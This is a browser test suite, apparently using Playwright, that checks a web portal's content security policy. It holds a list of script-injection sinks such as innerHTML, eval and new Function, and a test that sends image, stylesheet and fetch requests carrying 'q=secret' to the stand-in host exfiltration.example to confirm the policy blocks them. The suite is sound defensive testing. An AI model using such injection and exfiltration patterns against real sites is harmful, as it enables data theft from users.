"""The content security policy in a real browser: nothing of ours trips over it, and what is hostile does."""

import re

import pytest

from tests.journeys.conftest import PATIENCE
from tests.journeys.screen import ended, say

pytestmark = pytest.mark.browser

PORTAL = ["/", "/approvals", "/clusters", "/tools", "/model", "/conversations?q=pods", "/nothing/here", "/api/v1/docs"]
ADMIN = [
    "/admin/",
    "/admin/auth/user/",
    "/admin/auth/user/?q=admin",
    "/admin/auth/user/1/change/",
    "/admin/auth/user/1/password/",
    "/admin/auth/user/1/history/",
    "/admin/auth/user/add/",
    "/admin/auth/group/1/change/",
    "/admin/password_change/",
    *(
        f"/admin/chat/{name}/"
        for name in ("conversation", "message", "event", "run", "toolcall", "approval", "command")
    ),
    "/admin/chat/accesstoken/",
    "/admin/tools/cluster/",
]


def reports(portal) -> list[str]:
    return [line for line in portal.log.splitlines() if "against the content security policy" in line]


async def test_in_normal_use_browsers_report_nothing(visit, portal):
    """`visit` fails when a page throws or the console tells of the policy."""
    before = reports(portal)
    async with visit("/") as page:
        asked = []
        page.on("request", lambda request: asked.append(request.url))
        await say(page, "scale storefront to 2")
        await page.get_by_role("button", name="Approve").click()
        await ended(page)
        await say(page, "hostile")
        await ended(page, 2)
        conversation = page.url
        for path in [*PORTAL, *ADMIN]:
            await page.goto(portal.address + path)
            await page.wait_for_load_state("networkidle")
        for kind in ("conversation", "run", "toolcall", "event", "message"):
            await page.goto(f"{portal.address}/admin/chat/{kind}/")
            await page.locator("#result_list tbody th a").first.click()
            await page.wait_for_load_state("networkidle")
        await page.goto(conversation)
        await ended(page, 2)
        assert {re.match(r"\w+://[^/]+", url).group() for url in asked if not url.startswith("data:")} == {
            portal.address
        }
    assert reports(portal) == before


async def test_the_admin_works_with_its_scripts(visit, portal):
    """What of it needs jQuery: choosing groups, filtering them, and ticking rows."""
    async with visit("/") as page:
        await page.goto(portal.address + "/admin/auth/user/1/change/")
        box = page.locator("#id_groups_from")
        await box.wait_for()
        await page.locator("#id_groups_input").fill("zzz")
        await page.wait_for_function("document.querySelector('#id_groups_from').options.length === 0")
        await page.locator("#id_groups_input").fill("")
        await page.wait_for_function("window.django && window.django.jQuery !== undefined")
        await page.goto(portal.address + "/admin/auth/user/")
        await page.locator("#action-toggle").check()
        await page.locator(".action-counter", has_text="selected").first.wait_for()


SINKS = {
    "innerHTML": "document.body.innerHTML = '<b>x</b>'",
    "outerHTML": "document.body.firstElementChild.outerHTML = '<b>x</b>'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "document.write": "document.write('<b>x</b>')",
    "DOMParser": "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    "script.src": "document.createElement('script').src = '/static/js/theme.js'",
    "eval": "eval('1')",
    "Function": "new Function('return 1')()",
    "policy": "trustedTypes.createPolicy('another', {createHTML: text => text})",
    "second policy of ours": "trustedTypes.createPolicy('portal', {createHTML: text => text})",
}


@pytest.mark.parametrize("path", ["/tools", "/admin/"])
async def test_text_becomes_markup_nowhere_else(browser, portal, path):
    context = await _signed_in(browser, portal)
    page = await context.new_page()
    await page.goto(portal.address + path)
    await page.wait_for_load_state("networkidle")
    passed = []
    for name, script in SINKS.items():
        if await page.evaluate(LATER, script):
            passed.append(name)
    assert passed == []
    await context.close()


async def test_what_a_page_would_fetch_from_elsewhere_is_not_fetched_and_is_reported(browser, portal):
    context = await _signed_in(browser, portal)
    page = await context.new_page()
    await page.goto(portal.address + "/tools")
    blocked = await page.evaluate("""() => new Promise(done => {
        const told = [];
        document.addEventListener("securitypolicyviolation", event => {
            told.push(event.effectiveDirective);
            if (told.length === 3) done(told.sort());
        });
        const image = document.createElement("img");
        image.src = "http://exfiltration.example/?q=secret";
        document.body.append(image);
        const style = document.createElement("link");
        style.rel = "stylesheet";
        style.href = "http://exfiltration.example/a.css";
        document.head.append(style);
        fetch("http://exfiltration.example/").catch(() => {});
    })""")
    assert blocked == ["connect-src", "img-src", "style-src-elem"]
    await page.wait_for_timeout(500)
    assert not any("q=secret" in line for line in reports(portal))
    await context.close()


async def test_links_show_where_they_lead_and_tell_nobody_where_from(visit, portal):
    async with visit("/") as page:
        await page.goto(portal.address + "/tools")
        assert await page.evaluate("document.querySelectorAll('a[target=_blank]:not([rel~=noopener])').length") == 0


async def _signed_in(browser, portal):
    context = await browser.new_context()
    context.set_default_timeout(PATIENCE)
    pairs = [pair.split("=", 1) for pair in portal.cookies.split("; ")]
    await context.add_cookies([{"name": name, "value": value, "url": portal.address} for name, value in pairs])
    await context.add_init_script(RUN)
    return context


# Not in the call itself, in which a browser that is driven from outside lets more pass.
LATER = """text => new Promise(done => setTimeout(() => {
    try { window.run(text); done(true) } catch { done(false) }
}))"""
# Runs a line of JavaScript without `eval`, which the policy forbids too: one function for each of the sinks.
RUN = (
    "window.run = text => ({"
    + ", ".join(f"{script!r}: () => {{ {script} }}" for script in SINKS.values())
    + "})[text]()"
)
